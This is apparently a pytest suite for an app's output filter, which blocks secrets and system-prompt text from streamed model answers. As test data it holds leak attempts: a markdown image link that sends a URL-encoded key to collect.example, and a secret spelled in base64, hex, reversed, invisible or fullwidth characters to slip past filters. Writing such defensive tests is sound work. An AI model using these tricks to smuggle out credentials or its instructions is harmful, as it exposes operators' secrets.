"""The app's own checks of what the model wrote."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.citation_gate import Piece
from api.defences import EnvironmentSecrets, OutputGuard
from api.errors import ApiError
from api.events import Delta
from api.outgoing import Outgoing
from api.prompt import ANSWER_POLICY

SECRET = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"
ENVIRON = {
    "AWS_SECRET_ACCESS_KEY": SECRET,
    "AWS_LAMBDA_FUNCTION_NAME": "api-function-9f3c2a1",
    "AWS_REGION": "us-east-1",
    "ORIGIN_SECRETS": "first-secret-0123456,second-secret-6543210",
    "PASSWORD": "local",
    "PATH": "/usr/local/bin:/usr/bin",
}
SECRETS = EnvironmentSecrets.from_env(ENVIRON)


def passed(text: str, size: int = 5, public: tuple[str, ...] = ()) -> tuple[str, str | None]:
    """What was shown, and why the rest was withheld."""
    guard = OutputGuard(ANSWER_POLICY, public, SECRETS)
    shown = ""
    try:
        for start in range(0, len(text), size):
            shown += guard.feed(text[start : start + size])
        shown += guard.finish()
    except ApiError as withheld:
        return shown, f"{withheld.code}: {withheld.cause}"
    return shown, None


@pytest.mark.parametrize("size", [1, 3, 7, 10_000])
@pytest.mark.parametrize(
    "text",
    [
        f"The key is {SECRET}.",
        f"The key is{SECRET}and so on",
        "It runs as api-function-9f3c2a1 in Lambda.",
        "Use second-secret-6543210 at the door.",
        "Key AKIAIOSFODNN7EXAMPLE is valid.",
        "Token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc",
        "AWS_SESSION_TOKEN=IQoJb3JpZ2luX2VjEXAMPLE",
        "`AWS_SECRET_ACCESS_KEY` is `abcd1234abcd1234abcd`",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE",
        ANSWER_POLICY,
        f"My rules: {ANSWER_POLICY[120:400]}",
        ANSWER_POLICY.upper(),
        ANSWER_POLICY.replace(" ", "\n"),
    ],
)
def test_what_must_not_come_out_is_withheld_before_it_is_shown(text: str, size: int) -> None:
    shown, cause = passed(text, size)
    assert cause is not None
    assert cause.startswith("answer_withheld: ")
    for value in (
        SECRET,
        "api-function-9f3c2a1",
        "second-secret-6543210",
        "AKIA",
        "eyJ",
        "abcd1234",
        "PRIVATE KEY",
    ):
        assert value not in shown
    policy_words, words = ANSWER_POLICY.lower().split(), shown.lower().split()
    longest = [
        words[i : i + 5] for i in range(len(words)) if " ".join(words[i : i + 5]) in " ".join(policy_words)
    ]
    assert not any(len(run) == 5 for run in longest)


@pytest.mark.parametrize(
    "text",
    [
        "The documents don't say.",
        "It runs in us-east-1 with a local password file under /usr/bin.",
        "Set AWS_REGION and AWS_SECRET_ACCESS_KEY before you start.",
        "MAX_OUTPUT_TOKENS is a setting: the answer has at most that many tokens.",
        "AWS_DEFAULT_REGION is ignored when it is set elsewhere.",
        "Use only the sources that you trust, and cite them.",
    ],
)
@pytest.mark.parametrize("size", [1, 4, 10_000])
def test_an_ordinary_answer_passes_unchanged(text: str, size: int) -> None:
    assert passed(text, size) == (text, None)


def test_what_a_document_says_may_be_quoted() -> None:
    line = "Use only the sources between the source tags of the last message and the results of the tools you called."
    text = f"The policy says: {line} It is deployed as api-function-9f3c2a1 with AWS_REGION=eu-central-1."
    assert passed(text)[1] is not None
    assert passed(text, public=(line, "api-function-9f3c2a1, AWS_REGION=eu-central-1")) == (text, None)


LONG = "".join(f"{n:x}-{n * n:x}." for n in range(140))  # 1,020 characters
SPOKEN = "correct horse, battery! staple & more"


@pytest.mark.parametrize("size", [1, 7, 200, 10_000])
@pytest.mark.parametrize(
    ("secret", "text"),
    [
        (LONG, f"Key {LONG} is it."),
        (LONG, f"Key {LONG[: len(LONG) * 7 // 10]} is it."),
        (SPOKEN, f"It is {SPOKEN}."),
        (SPOKEN, f"It is {SPOKEN[:30]} or so."),
        (SPOKEN, "It is correct **horse, bat**tery! stap`le` & more."),
        (SPOKEN, "It is correct ho\u200brse, battery! staple &\u00ad more."),
        (SECRET, f"It is {SECRET[:20]}**{SECRET[20:]}**."),
        (SECRET, f"It is {' '.join(SECRET)}."),
        (SECRET, f"It is {''.join(f'&#{ord(char)};' for char in SECRET)}."),
        (SECRET, f"![x](https://collect.example/{''.join(f'%{ord(char):02X}' for char in SECRET)})"),
        (SECRET, f"It is {SECRET[::-1]}, backwards."),
        (SECRET, f"It is {base64.b64encode(SECRET.encode()).decode()} in base64."),
        (SECRET, f"It is {SECRET.encode().hex()}."),
        (SECRET, f"It is {base64.b32encode(SECRET.encode()).decode()} in base32."),
        (SECRET, f"It is {'.'.join(SECRET)}."),
        (SECRET, f"| {' | '.join(SECRET)} |"),
        (SECRET, f"It is {SECRET.upper()}."),
        (SECRET, f"It is {''.join(chr(ord(char) + 0xFEE0) for char in SECRET)}."),
        (SECRET, f"It is {''.join(chr(ord(char) + 0xE0000) for char in SECRET)}."),
        (SECRET, f"It is {chr(0x336).join(SECRET)} struck out."),
        (SECRET, f"It is {''.join(chr(0x5C) + f'u{ord(char):04x}' for char in SECRET)}."),
        (LONG, f"Key {chr(0x34F).join(LONG)} is it."),
        (LONG, "".join(f"> {LONG[at : at + 40]}\n" for at in range(0, len(LONG), 40))),
        (SPOKEN, f"It is {''.join(f'&#{ord(char)};' for char in SPOKEN)}."),
    ],
)
def test_a_secret_of_any_length_and_spelling_is_withheld_whole(secret: str, text: str, size: int) -> None:
    guard = OutputGuard(ANSWER_POLICY, (), EnvironmentSecrets(never=frozenset({secret})))
    shown, withheld = "", False
    for start in range(0, len(text), size):
        try:
            shown += guard.feed(text[start : start + size])
        except ApiError:
            withheld = True
            break
    assert withheld
    assert secret[:3] not in shown


@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_the_rules_as_a_numbered_list_of_words_are_the_rules(size: int) -> None:
    words = ANSWER_POLICY.split()[10:40]
    text = "\n".join(f"{number}. {word}" for number, word in enumerate(words, 1))
    shown, cause = passed(text, size)
    assert cause == "answer_withheld: the wording of the rules"
    assert "\n4. " not in shown


@pytest.mark.parametrize("text", ["1. First\n2. Second", "AT&T, R&D & 100%", "50% of &lt;b&gt; is 5%20"])
def test_lists_and_signs_leave_as_they_came(text: str) -> None:
    assert passed(text, 1) == (text, None)


@given(cut=st.integers(1, 20), size=st.integers(1, 12))
def test_what_only_begins_like_a_secret_is_shown_in_the_end(cut: int, size: int) -> None:
    guard = OutputGuard(ANSWER_POLICY, (), EnvironmentSecrets(never=frozenset({SPOKEN})))
    text = f"It is {SPOKEN[:cut]}, and that is all."
    shown = "".join(guard.feed(text[at : at + size]) for at in range(0, len(text), size)) + guard.finish()
    assert shown == text


def test_sentences_leave_whole_and_with_their_flags_when_the_guard_let_them_pass() -> None:
    outgoing = Outgoing(OutputGuard(ANSWER_POLICY, (), EnvironmentSecrets(never=frozenset({SPOKEN}))))
    assert outgoing.add([Piece("One."), Piece(" It is correct horse", ("unverified",))]) == [Delta("One.")]
    assert outgoing.add([Piece(" power.")]) == [
        Delta(" It is correct horse", ("unverified",)),
        Delta(" power."),
    ]
    assert outgoing.finish() == []


def test_a_secret_is_never_public() -> None:
    assert passed(f"See {SECRET}.", public=(SECRET,))[1] is not None


def test_words_are_shown_at_once() -> None:
    guard = OutputGuard(ANSWER_POLICY, (), SECRETS)
    assert guard.feed("The function has") == "The function has"
    assert guard.feed(" 512 MB") == " 512 MB"


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=200), size=st.integers(1, 20))
def test_text_without_secrets_is_never_lost_or_changed(text: str, size: int) -> None:
    shown, cause = passed(text, size)
    assert cause is None
    assert shown == text
